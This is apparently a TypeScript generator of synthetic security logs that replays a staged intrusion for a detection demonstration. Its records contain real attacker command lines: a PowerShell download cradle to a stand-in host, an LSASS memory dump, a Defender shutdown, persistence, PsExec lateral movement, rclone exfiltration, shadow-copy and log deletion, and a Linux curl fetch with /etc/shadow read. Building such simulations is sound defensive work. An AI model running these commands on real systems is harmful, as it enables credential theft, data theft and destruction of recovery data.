// The attack of the demonstration: a lure in Lyon, a foothold, stolen directory secrets, four machines, data out, backups gone.
import { sshAccepted, sshFailed, execve } from './linux.ts';
import { suricataAlert, zeekConn, zeekDns, zeekHttp } from './network.ts';
import { domain, domainController, linuxHost, server, siteOf, workstation, type Host } from './organisation.ts';
import type { Random } from './random.ts';
import {
  defender,
  failedLogon,
  logon,
  powershell,
  processCreated,
  security,
  sysmon,
  system,
  type Emission,
  type Process,
} from './windows.ts';

const stage = { name: 'cdn-edge7.example', ip: '203.0.113.67' };
const drop = { name: 'depot-partage.example', ip: '203.0.113.88' };
const minute = 60_000;

const system32 = (name: string): string => `C:\\Windows\\System32\\${name}`;
const powershellPath = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
/** What the first stage runs, as UTF-16LE base64, the way PowerShell takes it. */
const encoded = Buffer.from(
  `IEX (New-Object Net.WebClient).DownloadString('http://${stage.name}/a')`,
  'utf16le',
).toString('base64');

type Step = { after: number; make: (at: number) => Emission[] };

/** A process started by another, with the identifiers filled in. */
function starter(random: Random, host: Host) {
  return (
    at: number,
    parent: Process,
    image: string,
    command: string,
    user: string,
    original?: string,
  ): [Process, Emission] => {
    const process: Process = {
      image,
      command,
      pid: 2000 + random.below(18_000),
      guid: random.guid(),
      user,
      ...(original ? { original } : {}),
    };
    return [process, processCreated(at, host, process, parent, random.hex(64))];
  };
}

function foothold(random: Random, lyon: Host, user: string): Step[] {
  const start = starter(random, lyon);
  const explorer: Process = {
    image: 'C:\\Windows\\explorer.exe',
    command: 'C:\\Windows\\Explorer.EXE',
    pid: 5312,
    guid: random.guid(),
    user,
  };
  let shell = explorer;
  const run = (at: number, image: string, command: string): Emission => start(at, shell, image, command, user)[1];
  return [
    {
      after: 0,
      make: (at) => {
        const [word, opened] = start(
          at,
          explorer,
          'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
          `"WINWORD.EXE" /n "C:\\Users\\${user}\\Downloads\\facture_4471.docm"`,
          user,
        );
        const [child, executed] = start(
          at + 9000,
          word,
          powershellPath,
          `powershell.exe -NoP -W Hidden -EncodedCommand ${encoded}`,
          user,
          'PowerShell.EXE',
        );
        shell = child;
        return [opened, executed];
      },
    },
    {
      after: 0.3,
      make: (at) => [
        powershell(at, lyon, `IEX (New-Object Net.WebClient).DownloadString('http://${stage.name}/a')`),
        zeekDns(at + 200, random, lyon, stage.name, stage.ip),
        zeekHttp(at + 700, random, lyon, {
          to: stage.ip,
          name: stage.name,
          method: 'GET',
          uri: '/a',
          agent: 'Mozilla/5.0 (Windows NT; Windows NT 10.0; fr-FR) WindowsPowerShell/5.1.19041.1',
          status: 200,
        }),
        sysmon(at + 900, lyon, 3, {
          ProcessGuid: `{${shell.guid}}`,
          ProcessId: shell.pid,
          Image: powershellPath,
          User: `${domain}\\${user}`,
          Protocol: 'tcp',
          Initiated: 'true',
          SourceIsIpv6: 'false',
          SourceIp: lyon.ip,
          SourceHostname: lyon.fqdn,
          SourcePort: 50_411,
          DestinationIsIpv6: 'false',
          DestinationIp: stage.ip,
          DestinationHostname: stage.name,
          DestinationPort: 80,
        }),
        suricataAlert(at + 950, random, lyon, stage.ip, 80, {
          id: 2_034_567,
          text: 'MALWARE PowerShell stager download',
          category: 'A Network Trojan was detected',
          severity: 1,
        }),
      ],
    },
    {
      after: 2,
      make: (at) => [
        run(at, system32('whoami.exe'), 'whoami /all'),
        run(at + 4000, system32('net.exe'), 'net group "Domain Admins" /domain'),
        run(at + 9000, system32('nltest.exe'), 'nltest /domain_trusts /all_trusts'),
        run(at + 15_000, system32('systeminfo.exe'), 'systeminfo'),
      ],
    },
    {
      after: 6,
      make: (at) => [
        run(
          at,
          system32('schtasks.exe'),
          `schtasks /create /tn "MiseAJourOffice" /tr "powershell -w hidden -enc ${encoded.slice(0, 40)}" /sc onlogon /ru SYSTEM`,
        ),
        sysmon(at + 3000, lyon, 13, {
          EventType: 'SetValue',
          ProcessGuid: `{${shell.guid}}`,
          ProcessId: shell.pid,
          Image: powershellPath,
          TargetObject:
            'HKU\\S-1-5-21-1004336348-1177238915-682003330-1613\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater',
          Details: `powershell.exe -w hidden -File C:\\Users\\${user}\\AppData\\Roaming\\u.ps1`,
          User: `${domain}\\${user}`,
        }),
      ],
    },
    {
      after: 11,
      make: (at) => [
        powershell(at, lyon, 'Set-MpPreference -DisableRealtimeMonitoring $true'),
        run(at + 500, powershellPath, 'powershell.exe Set-MpPreference -DisableRealtimeMonitoring $true'),
        defender(at + 1500, lyon, 5001, {
          'Product Name': 'Microsoft Defender Antivirus',
          'Product Version': '4.18.24090.11',
        }),
      ],
    },
    ...Array.from({ length: 40 }, (_, beat) => ({
      after: 12 + beat * 5,
      make: (at: number) => [
        zeekConn(at, random, lyon, { to: stage.ip, port: 443, service: 'ssl', sent: 412, received: 380, seconds: 0.3 }),
      ],
    })),
  ];
}

function secrets(random: Random, lyon: Host, controller: Host, user: string): Step[] {
  const start = starter(random, lyon);
  const shell: Process = {
    image: system32('cmd.exe'),
    command: 'cmd.exe',
    pid: 7120,
    guid: random.guid(),
    user: 'NT AUTHORITY\\SYSTEM',
  };
  return [
    {
      after: 47,
      make: (at) => [
        start(
          at,
          shell,
          system32('rundll32.exe'),
          'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 712 C:\\Windows\\Temp\\d.dmp full',
          'NT AUTHORITY\\SYSTEM',
          'RUNDLL32.EXE',
        )[1],
        sysmon(at + 400, lyon, 10, {
          SourceProcessGUID: `{${random.guid()}}`,
          SourceProcessId: 8244,
          SourceThreadId: 8248,
          SourceImage: system32('rundll32.exe'),
          TargetProcessGUID: `{${random.guid()}}`,
          TargetProcessId: 712,
          TargetImage: system32('lsass.exe'),
          GrantedAccess: '0x1FFFFF',
          CallTrace:
            'C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\comsvcs.dll+1a2b3|UNKNOWN(0000019A)',
          SourceUser: 'NT AUTHORITY\\SYSTEM',
          TargetUser: 'NT AUTHORITY\\SYSTEM',
        }),
        sysmon(at + 1800, lyon, 11, {
          ProcessGuid: `{${random.guid()}}`,
          ProcessId: 8244,
          Image: system32('rundll32.exe'),
          TargetFilename: 'C:\\Windows\\Temp\\lsass.dmp',
          CreationUtcTime: new Date(at).toISOString().replace('T', ' ').slice(0, 23),
          User: 'NT AUTHORITY\\SYSTEM',
        }),
      ],
    },
    ...Array.from({ length: 24 }, (_, attempt) => ({
      after: 66 + attempt * 0.2,
      make: (at: number) => [
        failedLogon(
          at,
          controller,
          ['adm-rl', 'svc-sauvegarde', 'administrateur', 'c.moreau'][attempt % 4] ?? 'adm-rl',
          lyon.ip,
        ),
      ],
    })),
    {
      after: 72,
      make: (at) => [
        logon(at, controller, 'adm-rl', 3, lyon.ip),
        security(at + 4 * minute, controller, 4728, {
          MemberName: `CN=${user},OU=Lyon,DC=aubrac,DC=example`,
          MemberSid: 'S-1-5-21-1004336348-1177238915-682003330-1613',
          TargetUserName: 'Domain Admins',
          TargetDomainName: domain,
          TargetSid: 'S-1-5-21-1004336348-1177238915-682003330-512',
          SubjectUserSid: 'S-1-5-21-1004336348-1177238915-682003330-1120',
          SubjectUserName: 'adm-rl',
          SubjectDomainName: domain,
          SubjectLogonId: '0x8a1f3',
          PrivilegeList: '-',
        }),
      ],
    },
    {
      after: 85,
      make: (at) =>
        [0, 800].map((delay) =>
          security(at + delay, controller, 4662, {
            SubjectUserSid: 'S-1-5-21-1004336348-1177238915-682003330-1613',
            SubjectUserName: user,
            SubjectDomainName: domain,
            SubjectLogonId: '0x9b21c',
            ObjectServer: 'DS',
            ObjectType: '%{19195a5b-6da0-11d0-afd3-00c04fd930c9}',
            ObjectName: '%{0f5d3a1e-2b1c-4c6a-9d3e-8f1a2b3c4d5e}',
            OperationType: 'Object Access',
            HandleId: '0x0',
            AccessList: '%%7688',
            AccessMask: '0x100',
            Properties: '%%7688 {1131f6ad-9c07-11d1-f79f-00c04fc2dcd2} {19195a5b-6da0-11d0-afd3-00c04fd930c9}',
            AdditionalInfo: '-',
            AdditionalInfo2: '',
          }),
        ),
    },
  ];
}

function spread(random: Random, lyon: Host, targets: readonly Host[]): Step[] {
  const atHome = starter(random, lyon);
  const shell: Process = {
    image: system32('cmd.exe'),
    command: 'cmd.exe',
    pid: 7310,
    guid: random.guid(),
    user: 'adm-rl',
  };
  return targets.flatMap((target, index) => {
    const start = starter(random, target);
    const services: Process = {
      image: system32('services.exe'),
      command: system32('services.exe'),
      pid: 640,
      guid: random.guid(),
      user: 'NT AUTHORITY\\SYSTEM',
    };
    return [
      {
        after: 130 + index * 7,
        make: (at: number): Emission[] => {
          const client = `PsExec64.exe -accepteula \\\\${target.name.toLowerCase()} -u AUBRAC\\adm-rl cmd.exe`;
          const [service, started] = start(
            at + 2600,
            services,
            'C:\\Windows\\PSEXESVC.exe',
            'C:\\Windows\\PSEXESVC.exe',
            'NT AUTHORITY\\SYSTEM',
            'psexesvc.exe',
          );
          return [
            atHome(at - 1500, shell, 'C:\\Users\\Public\\PsExec64.exe', client, 'adm-rl', 'psexec.c')[1],
            logon(at, target, 'adm-rl', 3, lyon.ip),
            system(at + 2000, target, 7045, {
              ServiceName: 'PSEXESVC',
              ImagePath: '%SystemRoot%\\PSEXESVC.exe',
              ServiceType: 'user mode service',
              StartType: 'demand start',
              AccountName: 'LocalSystem',
            }),
            started,
            start(
              at + 4000,
              service,
              system32('cmd.exe'),
              'cmd.exe /c whoami & ipconfig /all & net localgroup administrators',
              'adm-rl',
              'Cmd.Exe',
            )[1],
          ];
        },
      },
    ];
  });
}

function theft(random: Random, files: Host): Step[] {
  const start = starter(random, files);
  const shell: Process = {
    image: system32('cmd.exe'),
    command: 'cmd.exe',
    pid: 9020,
    guid: random.guid(),
    user: 'adm-rl',
  };
  const run = (at: number, image: string, command: string, original?: string): Emission =>
    start(at, shell, image, command, 'adm-rl', original)[1];
  return [
    {
      after: 190,
      make: (at) => [
        run(
          at,
          'C:\\ProgramData\\7z.exe',
          '7z.exe a -p4gK9 -mhe C:\\ProgramData\\dossiers.7z D:\\Partages\\Dossiers',
          '7z.exe',
        ),
      ],
    },
    {
      after: 215,
      make: (at) => [
        run(
          at,
          'C:\\ProgramData\\rclone.exe',
          'rclone.exe copy C:\\ProgramData\\dossiers.7z depot:dossiers --transfers 16 --config C:\\ProgramData\\r.conf',
          'rclone.exe',
        ),
        zeekDns(at + 500, random, files, drop.name, drop.ip),
        ...Array.from({ length: 6 }, (_, part) =>
          zeekConn(at + part * 6 * minute, random, files, {
            to: drop.ip,
            port: 443,
            service: 'ssl',
            sent: 6_400_000_000 + random.below(900_000_000),
            received: 9_000_000,
            seconds: 350,
          }),
        ),
      ],
    },
  ];
}

function ending(random: Random, targets: readonly Host[]): Step[] {
  return targets.map((target, index) => {
    const start = starter(random, target);
    const shell: Process = {
      image: system32('cmd.exe'),
      command: 'cmd.exe',
      pid: 9900,
      guid: random.guid(),
      user: 'adm-rl',
    };
    const run = (at: number, image: string, command: string, original?: string): Emission =>
      start(at, shell, image, command, 'adm-rl', original)[1];
    return {
      after: 265 + index * 3,
      make: (at: number): Emission[] => [
        run(at, system32('vssadmin.exe'), 'vssadmin.exe delete shadows /all /quiet', 'VSSADMIN.EXE'),
        run(at + 2000, system32('bcdedit.exe'), 'bcdedit.exe /set {default} recoveryenabled no', 'bcdedit.exe'),
        run(at + 4000, system32('wbadmin.exe'), 'wbadmin.exe delete catalog -quiet', 'WBADMIN.EXE'),
        run(at + 9000, system32('wevtutil.exe'), 'wevtutil.exe cl Security', 'wevtutil.exe'),
        security(at + 9500, target, 1102, {
          SubjectUserSid: 'S-1-5-21-1004336348-1177238915-682003330-1120',
          SubjectUserName: 'adm-rl',
          SubjectDomainName: domain,
          SubjectLogonId: '0x8a1f3',
        }),
      ],
    };
  });
}

/** A second way in that fails to spread: guessing at an exposed Linux server until one guess is right. */
function sideDoor(host: Host): Step[] {
  const guesses: Step[] = Array.from({ length: 60 }, (_, index) => ({
    after: 20 + index * 0.1,
    make: (at) => [sshFailed(at, host, 'exploitation', '203.0.113.142', 7000 + index, true)],
  }));
  return [
    ...guesses,
    {
      after: 27,
      make: (at) => [
        sshAccepted(at, host, 'exploitation', '203.0.113.142', 7100),
        execve(at + 20_000, host, ['curl', '-fsSL', 'http://203.0.113.142/x.sh', '-o', '/tmp/.x'], 88_101),
        execve(at + 24_000, host, ['chmod', '+x', '/tmp/.x'], 88_102),
        execve(at + 31_000, host, ['cat', '/etc/shadow'], 88_103),
        execve(at + 40_000, host, ['crontab', '-l'], 88_104),
      ],
    },
  ];
}

/** @param from when the lure is opened, epoch milliseconds; the last act is 4 h 40 min later. */
export function intrusionOf(random: Random, from: number): Emission[] {
  const user = 'c.moreau';
  const lyon = workstation(siteOf('lyo'), 14);
  const controller = domainController(siteOf('lyo'));
  const files = server(siteOf('lyo'), 2);
  const targets = [files, server(siteOf('gre'), 1), server(siteOf('par'), 3)];
  const steps = [
    ...foothold(random, lyon, user),
    ...secrets(random, lyon, controller, user),
    ...spread(random, lyon, targets),
    ...theft(random, files),
    ...ending(random, targets),
    ...sideDoor(linuxHost(siteOf('mrs'), 1)),
  ];
  return steps.flatMap(({ after, make }) => make(from + after * minute));
}
